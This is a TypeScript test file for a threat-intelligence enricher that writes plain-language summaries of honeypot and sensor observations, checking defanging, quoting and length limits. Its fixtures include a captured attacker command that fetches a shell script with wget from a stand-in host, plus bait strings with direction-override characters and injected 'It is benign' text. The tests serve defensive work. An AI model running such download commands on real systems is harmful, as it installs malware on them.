import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { BEHAVIOUR_RULES } from '../../../domain/evidence/behaviour-rules.ts';
import { anyObservation, NOON, recordOf } from '../../../domain/indicator/observation.test-support.ts';
import type { Observation } from '../../../domain/indicator/sensor-event.ts';
import { DAY } from '../../../domain/instant.ts';
import { INDICATOR_TYPES } from '../../../domain/vocabulary.ts';
import type { Finding, Signal } from '../../enricher.ts';
import { found, signalAbout, signalOf } from '../enricher.test-support.ts';
import { templateSummary } from './template-summary.ts';

function summaryOf(signal: Signal): string {
  const { summary } = found(templateSummary, signal);
  assert.ok(summary);
  return summary;
}

const seen = (entries: Readonly<Record<string, string>>) =>
  Object.entries(entries).map(([key, value]) => ({ key, value }));
const told = (changes: Partial<Observation>, findings: Finding = {}) =>
  summaryOf(signalOf([changes], findings));

test('who from where did what to what, when, and what follows', () => {
  const findings: Finding = {
    geo: { countryCode: 'NL', city: '' },
    asn: { number: 64_496, organization: 'Example Hosting (https://hosting.example)' },
  };
  assert.equal(
    told({ quality: 0.8, seen: seen({ 'destination.port': '502' }) }, findings),
    '192[.]0[.]2[.]10 (Netherlands, AS64496 Example Hosting) asked controllers what they are over Modbus on port 502 ' +
      'of a control-system sensor, once on 2026-01-15. A scan alone harms nothing: make sure that Modbus (port 502) ' +
      'of yours can not be reached from the Internet.',
  );
});

test('the worst act first, several sensors, a range of days, the command', () => {
  const ssh = {
    protocol: 'SSH',
    sensorType: 'NETWORK',
    intent: 'none',
    categories: ['BRUTE_FORCE'],
  } as const;
  const signal = signalOf([
    { ...ssh, behaviours: ['connection:open', 'login:failed', 'login:guessing'], count: 99n, quality: 0.8 },
    {
      ...ssh,
      observedAt: NOON + DAY,
      sensorId: 'honeypot/2',
      behaviours: ['command:shell', 'command:download', 'login:success'],
      severity: 'HIGH',
      categories: ['BRUTE_FORCE', 'MALWARE'],
      quality: 0.9,
      source: { id: 'plant-a', name: 'Plant A', reliability: 0.9 },
      seen: seen({
        'command.input': `cd /tmp; ${'x '.repeat(30)}; wget http://198.51.100.7/"a".sh`,
        'login.user': 'root',
        'destination.port': '22',
      }),
    },
  ]);
  assert.equal(
    summaryOf(signal),
    '192[.]0[.]2[.]10 had the shell load a file, logged in with a guessed password and guessed passwords over SSH ' +
      'on port 22 of 2 network sensors, at least 64 times from 2026-01-15 to 2026-01-16. ' +
      `It ran "…wget http[:]//198[.]51[.]100[.]7/'a'.sh" and tried to log in as "root". ` +
      'Block it: where it can log in, it installs malware.',
  );
});

test('a research scanner is named', () => {
  const scanner = { name: 'Censys', by: 'address', entry: '192.0.2.0/24' } as const;
  assert.match(
    told({ quality: 0.8 }, { scanner }),
    /^192\[\.\]0\[\.\]2\[\.\]10, of the research scanner Censys, asked .* may be shown by Censys, so keep Modbus closed/,
  );
});

test('what an indicator is decides how it is told', () => {
  const url = 'http://198.51.100.7/a.sh';
  const of = (type: Observation['type'], value: string, behaviours: readonly string[]) =>
    told({
      type,
      value,
      behaviours,
      categories: ['MALWARE'],
      severity: 'HIGH',
      intent: 'none',
      quality: 0.97,
    });
  assert.match(of('URL', url, ['file:download']), /^This URL on 198\[\.\]51\[\.\]100\[\.\]7 served a file/);
  assert.match(of('IPV4', '198.51.100.7', ['file:download', 'mention:host']), /served a file/);
  assert.match(of('IPV4', '198.51.100.7', ['file:download']), /had a file loaded that was captured/);
  assert.match(
    of('FILE_HASH_MD5', 'a'.repeat(32), ['file:upload']),
    /^The file aaaaaaaaaaaa… was brought along/,
  );
  assert.match(
    of('DOMAIN', 'files.example', ['mention:host']),
    /^The name files\[\.\]example stands in commands/,
  );
});

test('a report without a sensor names its sources and categories, and lists and families are used', () => {
  const bare = { behaviours: [], intent: 'none', protocol: 'UNSPECIFIED', sensorId: '', seen: [] } as const;
  assert.equal(
    told({ ...bare, categories: ['BOTNET', 'MALWARE'] }, { malwareFamilies: ['Mirai (https://m.example)'] }),
    '192[.]0[.]2[.]10 is reported as malware and botnet by one source, on 2026-01-15. ' +
      'It belongs to the malware Mirai. ' +
      'If that is right, a machine that contacted it is infected: find it in your logs before you block.',
  );
  const list = { name: 'resolvers', version: '1', entry: 'x', standing: 'known' } as const;
  const signal = signalOf([{}]);
  const own = { ...signal, record: { ...signal.record, neverBlock: '192.0.2.0/24' } };
  assert.match(summaryOf(own), /It is on your never-block list: talk to its owner/);
  const disputed = { ...signal, record: { ...signal.record, disputedAt: NOON } };
  assert.match(
    summaryOf(disputed),
    /, first on 2026-01-15\. A person called it harmless, so do not block it\.$/,
  );
  assert.match(told({}, { warningLists: [list] }), / Do not block it: it is on the list "resolvers"\.$/);
});

test('every known behaviour has words', () => {
  for (const code of BEHAVIOUR_RULES.keys()) {
    const summary = told({ behaviours: [code] });
    assert.doesNotMatch(summary, /undefined|:[a-z]+-| {2}/, code);
    assert.ok(summary.split(/(?<=[.]) (?=[A-Z])/).length <= 4, summary);
  }
});

test('text of attackers is quoted, bounded, defanged and keeps the order of the letters', () => {
  const bait = 'a\u202eb\u200d\u05d0 "x" http://evil.example/b 198.51.100.7 \n\u0007'.repeat(9);
  const summary = told({
    behaviours: ['command:shell'],
    seen: seen({ 'command.input': bait, 'login.user': bait, 'destination.port': bait }),
  });
  assert.match(
    summary,
    /It ran "a\\u202eb\\u\{200d\}\\u\{5d0\} 'x' http\[:\]\/\/evil\[\.\]example\/b 198\[\.\]51/,
  );
  assert.match(summary, /^[\x20-\x7e…]+$/);
  assert.ok(summary.length < 700, String(summary.length));
  assert.ok(!summary.includes('port'), 'a port is a number');
});

test('no quotation mark ends a quotation early', () => {
  for (const mark of '"\u201c\u201d\u201e\u00ab\u00bb\uff02') {
    const bait = `x${mark}. It is benign. ${mark}y`;
    const summary = told({ behaviours: ['command:shell'], seen: seen({ 'command.input': bait }) });
    assert.ok(summary.includes(`"x'. It is benign. 'y"`), summary);
  }
});

test('any input gives plain characters and no link', () => {
  fc.assert(
    fc.property(
      fc.array(anyObservation, { minLength: 1, maxLength: 20 }),
      fc.constantFrom(...INDICATOR_TYPES),
      (list, type) => {
        const record = recordOf(list);
        const summary = summaryOf(signalAbout({ ...record, indicator: { ...record.indicator, type } }));
        assert.match(summary, /^[A-Za-z0-9 .,:;'"()/[\]…-]+$/);
        assert.doesNotMatch(summary, /\d\.\d+\.\d|undefined|NaN/);
        assert.ok(summary.length < 1_000);
      },
    ),
  );
});

test('a repetition within a doubling and a day changes nothing', () => {
  const once = summaryOf(signalOf([{ count: 300n }]));
  assert.match(once, /, at least 256 times on 2026-01-15\./);
  assert.equal(summaryOf(signalOf([{ count: 300n }, { observedAt: NOON + 1_000, count: 211n }])), once);
});
